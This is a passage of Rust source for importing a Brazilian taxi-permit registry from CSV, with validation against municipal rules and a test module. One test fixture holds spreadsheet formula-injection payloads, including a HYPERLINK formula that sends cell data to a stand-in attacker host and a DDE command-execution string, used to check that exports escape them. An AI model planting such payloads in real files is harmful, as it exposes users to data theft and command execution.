    if errors.is_empty() && rows.is_empty() {
        errors.push(whole("o arquivo não tem nenhum alvará"));
    }
    Ok(ReadRows { rows, errors })
}

/// The errors as the import reports them: sorted by line, at most [`MAX_IMPORT_ERRORS`] (the
/// last line then says how many were left out).
fn report(errors: Vec<RowError>) -> EditError {
    // Problems of the file as a whole are few and always kept, after the lines.
    let (file, mut lines): (Vec<RowError>, Vec<RowError>) =
        errors.into_iter().partition(|e| e.line.is_none());
    lines.sort_by_key(|e| (e.line, e.column.clone()));
    if lines.len() > MAX_IMPORT_ERRORS {
        let left = lines.len() - MAX_IMPORT_ERRORS;
        lines.truncate(MAX_IMPORT_ERRORS);
        lines.push(whole(format!(
            "mais {left} problema(s) não listado(s): corrija os de cima e importe de novo"
        )));
    }
    lines.extend(file);
    EditError::Csv(lines)
}

/// Next free numeric id with `prefix` (`P0001`, `V0001`) above every id in use.
fn id_allocator<'a>(
    prefix: &'static str,
    used: impl Iterator<Item = &'a str>,
) -> impl FnMut() -> String {
    let mut n = used
        .filter_map(|id| id.strip_prefix(prefix))
        .filter_map(|rest| rest.parse::<u32>().ok())
        .max()
        .unwrap_or(0);
    move || {
        n += 1;
        format!("{prefix}{n:04}")
    }
}

/// Parses an uploaded file (`data`, within [`UPLOAD_LIMITS`]) against the `current`
/// registry: [`read`] then [`apply`].
pub fn import(current: &Registry, data: &[u8], ctx: &Ctx<'_>) -> Result<Registry, EditError> {
    if data.len() > MAX_IMPORT_BYTES {
        return Err(EditError::Csv(vec![whole(format!(
            "o arquivo tem {} bytes, acima do limite de {MAX_IMPORT_BYTES} bytes ({MAX_IMPORT_ROWS} \
             alvarás no máximo)",
            data.len()
        ))]));
    }
    apply(current, &read(data, &UPLOAD_LIMITS)?, ctx)
}

/// Judges rows [`read`] from a file against each other and the `current` registry; the new
/// registry, or every problem. Reading and judging are apart so that a file is read once and
/// judged again if the registry changed meanwhile (the commit's optimistic retry).
pub fn apply(current: &Registry, read: &ReadRows, ctx: &Ctx<'_>) -> Result<Registry, EditError> {
    // Rows that could be read are still checked against each other, so one pass reports
    // every problem; checks of the file as a whole wait until every row is good.
    let rows = &read.rows;
    let mut errors = read.errors.clone();
    let rows_ok = errors.is_empty();

    // People by CPF: the first row that names one defines it; later rows must agree.
    let mut people: BTreeMap<String, (PersonIn, u64)> = BTreeMap::new();
    let mut order: Vec<String> = Vec::new();
    let mut note_person =
        |p: &PersonIn, line: u64, col: &str, errors: &mut Vec<RowError>| match people
            .get(p.cpf.as_str())
        {
            None => {
                people.insert(p.cpf.as_str().to_owned(), (p.clone(), line));
                order.push(p.cpf.as_str().to_owned());
            }
            Some((first, first_line)) if first != p => errors.push(at(
                line,
                Some(col),
                format!("os dados desta pessoa (mesmo CPF) diferem dos da linha {first_line}"),
            )),
            Some(_) => {}
        };
    let mut numbers: HashMap<&str, u64> = HashMap::new();
    let mut plates: HashMap<String, u64> = HashMap::new();
    let mut stands: BTreeMap<String, (Stand, Option<Cpf>, u64)> = BTreeMap::new();
    let mut holders: HashMap<String, (&str, u64)> = HashMap::new();
    let mut auxiliaries: HashMap<String, (&str, u64)> = HashMap::new();
    for row in rows {
        let line = row.line;
        if let Some(first) = numbers.insert(&row.number, line) {
            errors.push(at(
                line,
                Some("permit_number"),
                format!("alvará {} repetido (já na linha {first})", row.number),
            ));
        }
        if let Some(first) = plates.insert(row.vehicle.plate.canonical().to_owned(), line) {
            errors.push(at(
                line,
                Some("vehicle_plate"),
                format!("placa repetida (já na linha {first})"),
            ));
        }
        match stands.get(&row.stand.id) {
            None => {
                stands.insert(
                    row.stand.id.clone(),
                    (row.stand.clone(), row.coordinator_cpf.clone(), line),
                );
            }
            Some((s, c, first)) if s != &row.stand || c != &row.coordinator_cpf => {
                errors.push(at(
                    line,
                    Some("stand_id"),
                    format!(
                        "os dados do ponto {} diferem dos da linha {first}",
                        row.stand.id
                    ),
                ));
            }
            Some(_) => {}
        }
        if row.stand.service != row.service {
            errors.push(at(
                line,
                Some("permit_service"),
                "o serviço do alvará difere do serviço do ponto (art. 28)",
            ));
        }
        note_person(&row.holder, line, "holder_cpf", &mut errors);
        let live = !matches!(row.state, PermitState::Revoked { .. });
        if live
            && let Some((other, first)) =
                holders.insert(row.holder.cpf.as_str().to_owned(), (&row.number, line))
        {
            errors.push(at(
                line,
                Some("holder_cpf"),
                format!(
                    "o titular já é titular do alvará {other} (linha {first}): um único alvará \
                     por titular (art. 9º)"
                ),
            ));
        }
        for (i, aux) in row.auxiliaries.iter().enumerate() {
            let col = format!("aux{}_cpf", i + 1);
            note_person(&aux.person, line, &col, &mut errors);
            if aux.person.cpf == row.holder.cpf {
                errors.push(at(
                    line,
                    Some(&col),
                    "o titular não pode ser motorista auxiliar do próprio alvará (art. 8º)",
                ));
            }
            if i == 1 && aux.person.cpf == row.auxiliaries[0].person.cpf {
                errors.push(at(
                    line,
                    Some(&col),
                    "motorista auxiliar repetido no alvará",
                ));
            }
            if live
                && let Some((other, first)) =
                    auxiliaries.insert(aux.person.cpf.as_str().to_owned(), (&row.number, line))
                && other != row.number
            {
                errors.push(at(
                    line,
                    Some(&col),
                    format!(
                        "o motorista auxiliar já está no alvará {other} (linha {first}): o \
                         alvará de auxiliar vale para um só veículo (art. 8º, § 2º)"
                    ),
                ));
            }
        }
    }

    // Ids: kept for known CPFs and plates, allocated for newcomers.
    let by_cpf: HashMap<&str, &Person> =
        current.people.iter().map(|p| (p.cpf.as_str(), p)).collect();
    let by_plate: HashMap<&str, &Vehicle> = current
        .vehicles
        .iter()
        .map(|v| (v.plate.canonical(), v))
        .collect();
    let mut new_person_id = id_allocator("P", current.people.iter().map(|p| p.id.as_str()));
    let mut new_vehicle_id = id_allocator("V", current.vehicles.iter().map(|v| v.id.as_str()));
    let mut person_ids: HashMap<String, String> = HashMap::new();
    let mut next_people: Vec<Person> = Vec::new();
    for cpf in &order {
        let Some((p, _)) = people.get(cpf) else {
            continue;
        };
        let id = match by_cpf.get(cpf.as_str()) {
            Some(existing) => existing.id.clone(),
            None => new_person_id(),
        };
        person_ids.insert(cpf.clone(), id.clone());
        next_people.push(Person {
            id,
            name: p.name.clone(),
            cpf: p.cpf.clone(),
            birth_date: p.birth_date,
            licence: p.licence.clone(),
        });
    }

    // Stands, with coordinators from the file or the registry.
    let mut next_stands = Vec::new();
    for (stand, coordinator, line) in stands.into_values() {
        let mut stand = stand;
        if let Some(cpf) = coordinator {
            match person_ids.get(cpf.as_str()) {
                Some(id) => stand.coordinator_id = Some(id.clone()),
                None => match by_cpf.get(cpf.as_str()) {
                    Some(kept) => {
                        stand.coordinator_id = Some(kept.id.clone());
                        next_people.push((*kept).clone());
                        person_ids.insert(cpf.as_str().to_owned(), kept.id.clone());
                    }
                    None => errors.push(at(
                        line,
                        Some("stand_coordinator_cpf"),
                        "o coordenador não está no arquivo nem no cadastro",
                    )),
                },
            }
        }
        next_stands.push(stand);
    }

    let mut next_vehicles = Vec::new();
    let mut next_permits = Vec::new();
    // By number and by id: a lookup per row, not a scan (a city's registry has 10⁵ rows).
    let kept_authorisations: HashMap<&str, &sync_core::domain::IllnessAuthorisation> = current
        .permits
        .iter()
        .filter_map(|p| Some((p.number.as_str(), p.illness_authorisation.as_ref()?)))
        .collect();
    let next_person_ids: BTreeSet<&str> = next_people.iter().map(|p| p.id.as_str()).collect();
    for row in rows {
        let mut vehicle = row.vehicle.clone();
        vehicle.id = match by_plate.get(vehicle.plate.canonical()) {
            Some(v) => v.id.clone(),
            None => new_vehicle_id(),
        };
        let id_of = |p: &PersonIn| person_ids.get(p.cpf.as_str()).cloned().unwrap_or_default();
        let holder_id = id_of(&row.holder);
        let illness_authorisation = kept_authorisations
            .get(row.number.as_str())
            .filter(|a| next_person_ids.contains(a.person_id.as_str()))
            .map(|a| (*a).clone());
        next_permits.push(Permit {
            number: row.number.clone(),
            holder_id,
            auxiliaries: row
                .auxiliaries
                .iter()
                .map(|a| AuxiliaryDriver {
                    person_id: id_of(&a.person),
                    licence_number: a.licence_number.clone(),
                    registered_on: a.registered_on,
                })
                .collect(),
            vehicle_id: vehicle.id.clone(),
            stand_id: row.stand.id.clone(),
            service: row.service,
            issued_on: row.issued_on,
            renewal_year: row.renewal_year,
            edital_date: row.edital_date,
            state: row.state.clone(),
            illness_authorisation,
        });
        next_vehicles.push(vehicle);
    }

    if !rows_ok || !errors.is_empty() {
        return Err(report(errors));
    }

    // History the file does not carry must still point at a permit.
    let permit_numbers: BTreeSet<&str> = next_permits.iter().map(|p| p.number.as_str()).collect();
    for p in &current.penalties {
        if !permit_numbers.contains(p.permit_number.as_str()) {
            errors.push(whole(format!(
                "a penalidade {} do alvará {} ficaria sem alvará: inclua o alvará no arquivo",
                p.id, p.permit_number
            )));
        }
    }
    for f in &current.fines {
        if !permit_numbers.contains(f.permit_number.as_str()) {
            errors.push(whole(format!(
                "a multa {} do alvará {} ficaria sem alvará: inclua o alvará no arquivo",
                f.id, f.permit_number
            )));
        }
    }

    let next = Registry {
        version: current.version,
        generated_at: current.generated_at,
        people: next_people,
        vehicles: next_vehicles,
        stands: next_stands,
        permits: next_permits,
        penalties: current.penalties.clone(),
        fines: current.fines.clone(),
        transfers: current.transfers.clone(),
        parameters: current.parameters.clone(),
    };

    // Art. 14, as for every other write: the file may not raise the taxis of the whole registry
    // (places open or filled) above the cap, nor leave a stand with more permits than places.
    for bar in [
        office::check_cap(current, &next, ctx.rules),
        office::check_stand_places(current, &next, ctx.rules),
    ] {
        if let Err(refusal) = bar {
            errors.extend(refusal.findings.into_iter().map(|f| whole(f.message)));
        }
    }
    if let Err(e) = super::validate(&next) {
        errors.push(whole(e.to_string()));
    }
    if errors.is_empty() {
        Ok(next)
    } else {
        Err(report(errors))
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used, clippy::expect_used)]
mod tests {
    use super::*;
    use sync_core::rules::RulesConfig;
    use sync_core::testkit::sample_registry;

    fn ctx(rules: &RulesConfig) -> Ctx<'_> {
        Ctx {
            today: NaiveDate::from_ymd_opt(2026, 11, 30).unwrap(),
            rules,
        }
    }

    fn errors(e: EditError) -> Vec<RowError> {
        match e {
            EditError::Csv(rows) => rows,
            other => panic!("not a CSV error: {other:?}"),
        }
    }

    #[test]
    fn export_then_import_is_the_same_registry() {
        let rules = RulesConfig::default();
        let reg = sync_core::feed::sorted(sample_registry());
        let text = export(&reg).unwrap();
        let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
        assert_eq!(back, reg);
    }

    /// Free text that a spreadsheet would run as a formula (OWASP's triggers: `=`, `+`, `-`,
    /// `@`, TAB, CR), and a leading quote, which the escape itself uses.
    fn hostile_registry() -> Registry {
        let mut reg = sync_core::feed::sorted(sample_registry());
        reg.people[0].name = String::from("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        reg.people[1].name = String::from("@SUM(1+1)*cmd|' /C calc'!A0");
        reg.people[2].name = String::from("'=já escapado");
        reg.people[3].licence.observations = vec![String::from("-2+3"), String::from("EAR")];
        reg.stands[0].name = String::from("+55 19 3475-9000");
        reg.stands[0].address = String::from("=1+1, Centro");
        reg.stands[0].latitude = Some(-22.7394);
        reg.stands[0].longitude = Some(-47.3314);
        reg.vehicles[0].make_model = String::from("-1+1");
        reg.vehicles[0].colour = String::from("@BRANCO");
        reg
    }

    /// A text cell is held to the registry's rule for texts, as on the pages and the API:
    /// exactly `MAX_REGISTRY_TEXT_CHARS` is read, one more (or a line break inside a quoted
    /// cell) is a problem of that line and column, and nothing is imported.
    #[test]
    fn text_cells_are_bounded_like_every_registry_text() {
        use crate::limits::MAX_REGISTRY_TEXT_CHARS;
        let rules = RulesConfig::default();
        let mut reg = sync_core::feed::sorted(sample_registry());
        reg.people[0].name = "a".repeat(MAX_REGISTRY_TEXT_CHARS);
        let text = export(&reg).unwrap();
        let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
        assert_eq!(back, reg, "a name exactly at the limit is imported");
        // An address and the CNH's observations too, and the observations' count at its edge.
        let edits: [fn(&mut Registry); 3] = [
            |r| r.stands[0].address = "a".repeat(MAX_REGISTRY_TEXT_CHARS + 1),
            |r| {
                r.people[0].licence.observations =
                    vec!["EAR".to_owned(); crate::limits::MAX_LICENCE_OBSERVATIONS + 1]
            },
            |r| r.people[0].licence.observations = vec!["a".repeat(MAX_REGISTRY_TEXT_CHARS + 1)],
        ];
        for edit in edits {
            let mut reg = sync_core::feed::sorted(sample_registry());
            edit(&mut reg);
            let text = export(&reg).unwrap();
            assert!(!errors(import(&reg, &text, &ctx(&rules)).unwrap_err()).is_empty());
        }
        let mut reg = sync_core::feed::sorted(sample_registry());
        reg.people[0].licence.observations =
            vec!["EAR".to_owned(); crate::limits::MAX_LICENCE_OBSERVATIONS];
        let text = export(&reg).unwrap();
        assert!(import(&reg, &text, &ctx(&rules)).is_ok(), "at the limit");
        for bad in [
            "a".repeat(MAX_REGISTRY_TEXT_CHARS + 1),
            String::from("João\nda Silva"),
        ] {
            let mut reg = sync_core::feed::sorted(sample_registry());
            reg.people[0].name = bad.clone();
            let text = export(&reg).unwrap();
            let problems = errors(import(&reg, &text, &ctx(&rules)).unwrap_err());
            assert!(
                problems.iter().any(|p| p.line.is_some()
                    && p.column.as_deref().is_some_and(|c| c.ends_with("name"))),
                "{bad:?}: {problems:?}"
            );
        }
    }

    #[test]
    fn export_then_import_round_trips_formula_like_text() {
        let rules = RulesConfig::default();
        let reg = hostile_registry();
        let text = export(&reg).unwrap();
        let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
        assert_eq!(back, reg);
    }

    #[test]
    fn no_exported_text_cell_starts_a_formula() {
        let mut reg = hostile_registry();
        // TAB and CR too (import trims them, like any surrounding space).
        reg.people[4].name = String::from("\t=1+1");
        reg.vehicles[1].colour = String::from("\r=1+1");
        let text = export(&reg).unwrap();
        let mut r = csv::Reader::from_reader(&text[..]);
        let headers = r.headers().unwrap().clone();
        let mut escaped = 0;
        for rec in r.records() {
            let rec = rec.unwrap();
            for (col, cell) in headers.iter().zip(rec.iter()) {
                if NUMBER_COLUMNS.contains(&col) {
                    // Numbers stay numbers: a spreadsheet must still add and sort them.
                    assert!(!cell.starts_with('\''), "{col}: {cell:?}");
                    continue;
                }
                assert!(
                    !cell.starts_with(FORMULA_TRIGGERS),
                    "{col} starts a formula: {cell:?}"
                );
                escaped += usize::from(cell.starts_with('\''));
            }
        }
        // Every hostile cell above, on each row that repeats it.
        assert!(escaped >= 10, "{escaped}");
        let text = String::from_utf8(text).unwrap();
        assert!(text.contains(",-22.7394,-47.3314,"), "{text}");
    }

    #[test]
    fn a_file_at_the_byte_limit_is_read_and_one_byte_more_is_refused() {
        let rules = RulesConfig::default();
        let reg = sync_core::feed::sorted(sample_registry());
        let mut text = export(&reg).unwrap();
        // Blank lines are skipped: padding changes the size, not the rows.
        text.resize(MAX_IMPORT_BYTES, b'\n');
        let back = sync_core::feed::sorted(import(&reg, &text, &ctx(&rules)).unwrap());
        assert_eq!(back, reg);
        text.push(b'\n');
        let e = errors(import(&reg, &text, &ctx(&rules)).unwrap_err());
        assert_eq!(e.len(), 1, "{e:#?}");
        assert!(e[0].message.contains("acima do limite"), "{e:#?}");
    }

    #[test]
    fn rows_past_the_limit_are_refused_and_the_report_is_bounded() {
        let rules = RulesConfig::default();
        let reg = sample_registry();
        let text = String::from_utf8(export(&reg).unwrap()).unwrap();
        let mut lines = text.lines();
        let header = lines.next().unwrap();
        let row = lines.next().unwrap();
        let file = |n: usize| {
            let mut f = String::from(header);
            for _ in 0..n {
                f.push('\n');
                f.push_str(row);
            }
            f.into_bytes()
        };
        let too_many = |e: &[RowError]| e.iter().any(|r| r.message.contains("mais de"));
        // The same good row over and over: every row reads, the repeats are reported.
        let e = errors(import(&reg, &file(MAX_IMPORT_ROWS), &ctx(&rules)).unwrap_err());
        assert!(!too_many(&e), "{:#?}", &e[e.len() - 2..]);
        assert_eq!(e.len(), MAX_IMPORT_ERRORS + 1);
        assert!(
            e[MAX_IMPORT_ERRORS].message.contains("não listado"),
            "{:?}",
            e.last()
        );
        let e = errors(import(&reg, &file(MAX_IMPORT_ROWS + 1), &ctx(&rules)).unwrap_err());
        assert!(too_many(&e), "{:#?}", &e[e.len() - 2..]);
        assert_eq!(e.len(), MAX_IMPORT_ERRORS + 2);

        // A file of empty cells but one: ~50 problems a line, reading stops at the cap.
        let blank = format!(
            "{header}\n{}",
            format!("x{}\n", ",".repeat(COLUMNS.len() - 1)).repeat(10_000)
        );
        let e = errors(import(&reg, blank.as_bytes(), &ctx(&rules)).unwrap_err());
        assert!(e.len() <= MAX_IMPORT_ERRORS + 1, "{}", e.len());
    }

    #[test]
    fn import_into_an_empty_registry_allocates_ids() {
        let rules = RulesConfig::default();
        let mut reg = sample_registry();
        // P10 coordinates S01 and is on no permit: not in an export, so not found when empty.
        reg.stands[0].coordinator_id = None;
        reg.penalties.clear();
        reg.fines.clear();
        let text = export(&reg).unwrap();
        let fresh = import(&Registry::default(), &text, &ctx(&rules)).unwrap();
        assert_eq!(fresh.permits.len(), 5);
        assert_eq!(fresh.people.len(), 9);
        assert!(fresh.people.iter().any(|p| p.id == "P0001"));
        assert!(fresh.vehicles.iter().any(|v| v.id == "V0005"));
    }

    #[test]
    fn semicolons_and_brazilian_dates_are_accepted() {
        let rules = RulesConfig::default();
        let reg = sync_core::feed::sorted(sample_registry());
        let exported = export(&reg).unwrap();
        // Re-written the way a Brazilian spreadsheet saves it: `;` and DD/MM/AAAA, with a BOM.
        let mut r = csv::Reader::from_reader(&exported[..]);
        let mut w = csv::WriterBuilder::new()
            .delimiter(b';')
            .from_writer(b"\xEF\xBB\xBF".to_vec());
        w.write_record(r.headers().unwrap()).unwrap();
        for rec in r.records() {
            let rec = rec.unwrap();
            let cells: Vec<String> = rec
                .iter()
                .map(|c| match NaiveDate::parse_from_str(c, "%Y-%m-%d") {
                    Ok(d) => d.format("%d/%m/%Y").to_string(),
                    Err(_) => c.to_owned(),
                })
                .collect();
            w.write_record(&cells).unwrap();
        }
        let semi = w.into_inner().unwrap();
        let back = sync_core::feed::sorted(import(&reg, &semi, &ctx(&rules)).unwrap());
        assert_eq!(back, reg);
    }

    #[test]
    fn every_bad_row_is_reported_with_its_line() {
        let rules = RulesConfig::default();
        let reg = sample_registry();
        let text = String::from_utf8(export(&reg).unwrap()).unwrap();
        let mut lines: Vec<String> = text.lines().map(str::to_owned).collect();
        // Line 3 (permit 0002): bad holder CPF. Line 5 (0004): unknown state.
        lines[2] = lines[2].replace("86840102130", "86840102131");
        lines[4] = lines[4].replacen(",active,", ",parado,", 1);
        // Line 7: permit 0001 again with another plate.
        let mut dup = lines[1].clone();
        dup = dup.replace("BRA2E19", "QQQ1A11");
        lines.push(dup);
        let e = errors(import(&reg, lines.join("\n").as_bytes(), &ctx(&rules)).unwrap_err());
        let at: Vec<(Option<u64>, Option<&str>)> =
            e.iter().map(|r| (r.line, r.column.as_deref())).collect();
        assert!(at.contains(&(Some(3), Some("holder_cpf"))), "{e:#?}");
        assert!(at.contains(&(Some(5), Some("permit_state"))), "{e:#?}");
        assert!(at.contains(&(Some(7), Some("permit_number"))), "{e:#?}");
        // The repeated holder (art. 9) and auxiliaries (art. 8 §2) are found too.
        assert!(
            e.iter()
                .any(|r| r.line == Some(7) && r.message.contains("art. 9º"))
        );
        // No CPF in any message.
        for r in &e {
            assert!(!r.message.contains("868401021"), "{r:?}");
        }
    }

    /// A file read as a stream (as the command line reads one) is held to the limits it is
    /// read with, at their edge: exactly the bytes and the rows pass, one more is refused.
    #[test]
    fn a_stream_is_held_to_its_limits_at_their_edge() {
        let rules = RulesConfig::default();
        let reg = sync_core::feed::sorted(sample_registry());
        let text = export(&reg).unwrap();
        let n = reg.permits.len();
        let exact = ImportLimits {
            max_bytes: text.len() as u64,
            max_rows: n,
        };
        // Read in small pieces, so that the limit falls inside a read and not on its edge.
        let rows = read(std::io::BufReader::with_capacity(7, &text[..]), &exact).unwrap();
        assert_eq!(rows.len(), n);
        let back = sync_core::feed::sorted(apply(&reg, &rows, &ctx(&rules)).unwrap());
        assert_eq!(back, reg);

        let short = ImportLimits {
            max_bytes: exact.max_bytes - 1,
            ..exact
        };
        let e = errors(read(&text[..], &short).unwrap_err());
        assert_eq!(e.len(), 1, "{e:#?}");
        assert!(e[0].message.contains("passa de"), "{e:#?}");

        let fewer = ImportLimits {
            max_rows: n - 1,
            ..exact
        };
        let rows = read(&text[..], &fewer).unwrap();
        let e = errors(apply(&reg, &rows, &ctx(&rules)).unwrap_err());
        assert!(
            e.iter()
                .any(|r| r.message.contains(&format!("mais de {} alvarás", n - 1))),
            "{e:#?}"
        );

        // The command line's own limits read the same file.
        assert_eq!(read(&text[..], &CLI_LIMITS).unwrap().len(), n);
    }

    /// A stream's encoding is checked row by row: the first row that is not UTF-8 is named.
    #[test]
    fn a_row_that_is_not_utf8_is_named_by_its_line() {
        let rules = RulesConfig::default();
        let reg = sync_core::feed::sorted(sample_registry());
        let mut text = export(&reg).unwrap();
        // Latin-1 "ã" in the last row (line n + 1).
        let last = text.iter().rposition(|b| *b == b',').unwrap();
        text.insert(last + 1, 0xE3);
        let e = errors(import(&reg, &text, &ctx(&rules)).unwrap_err());
        assert_eq!(e.len(), 1, "{e:#?}");
        assert!(e[0].message.contains("UTF-8"), "{e:#?}");
        assert_eq!(e[0].line, Some(reg.permits.len() as u64 + 1), "{e:#?}");
        // A first line longer than any header is not read as one.
        let long = vec![b'a'; usize::try_from(MAX_HEADER_BYTES).unwrap() + 1];
        let e = errors(import(&reg, &long, &ctx(&rules)).unwrap_err());
        assert!(e[0].message.contains("primeira linha"), "{e:#?}");
    }

    #[test]
    fn header_problems_stop_early() {
        let rules = RulesConfig::default();
        let e = errors(
            import(
                &Registry::default(),
                b"permit_number,foo\n1,2\n",
                &ctx(&rules),
            )
            .unwrap_err(),
        );
        assert!(e.iter().any(|r| r.column.as_deref() == Some("foo")));
        assert!(e.iter().any(|r| r.message.starts_with("colunas ausentes")));
        let e = errors(import(&Registry::default(), b"\xff\xfe", &ctx(&rules)).unwrap_err());
        assert!(e[0].message.contains("UTF-8"));
    }

    #[test]
    fn history_must_keep_its_permit_and_the_cap_holds() {
        let mut rules = RulesConfig::default();
        let reg = sample_registry();
        let text = String::from_utf8(export(&reg).unwrap()).unwrap();
        // Drop permit 0004, which has the fine.
        let without: Vec<&str> = text.lines().filter(|l| !l.starts_with("0004,")).collect();
        let e = errors(import(&reg, without.join("\n").as_bytes(), &ctx(&rules)).unwrap_err());
        assert!(
            e.iter()
                .any(|r| r.line.is_none() && r.message.contains("FINE-1"))
        );
        // The cap counts places over the whole registry (4 stands of 10: 40). A file into a
        // registry without stands above the cap is refused; exactly at it, accepted.
        rules.census_population = 39 * 2_000;
        rules.inhabitants_per_taxi = 2_000;
        // (The people stay: S01's coordinator holds no permit, so no row of the file names her.)
        let empty = Registry {
            people: reg.people.clone(),
            ..Registry::default()
        };
        let e = errors(import(&empty, text.as_bytes(), &ctx(&rules)).unwrap_err());
        assert!(
            e.iter()
                .any(|r| r.message.contains("art. 14") && r.message.contains("de 0 a 40")),
            "{e:#?}"
        );
        rules.census_population = 40 * 2_000;
        import(&empty, text.as_bytes(), &ctx(&rules)).unwrap();
        // At the cap, re-importing the registry as it is raises nothing; one more place does.
        assert!(import(&reg, text.as_bytes(), &ctx(&rules)).is_ok());
        let mut more = reg.clone();
        more.stands[0].vacancies += 1;
        let file = export(&more).unwrap();
        let e = errors(import(&reg, &file, &ctx(&rules)).unwrap_err());
        assert!(e.iter().any(|r| r.message.contains("de 40 a 41")), "{e:#?}");
        // And a stand may not hold more permits than places (S02 has two).
        let mut fewer = reg.clone();
        fewer.stands[1].vacancies = 1;
        let file = export(&fewer).unwrap();
        let e = errors(import(&reg, &file, &ctx(&rules)).unwrap_err());
        assert!(
            e.iter()
                .any(|r| r.message.contains("tem 1 vaga e ficaria com 2 alvarás")),
            "{e:#?}"
        );
    }
}
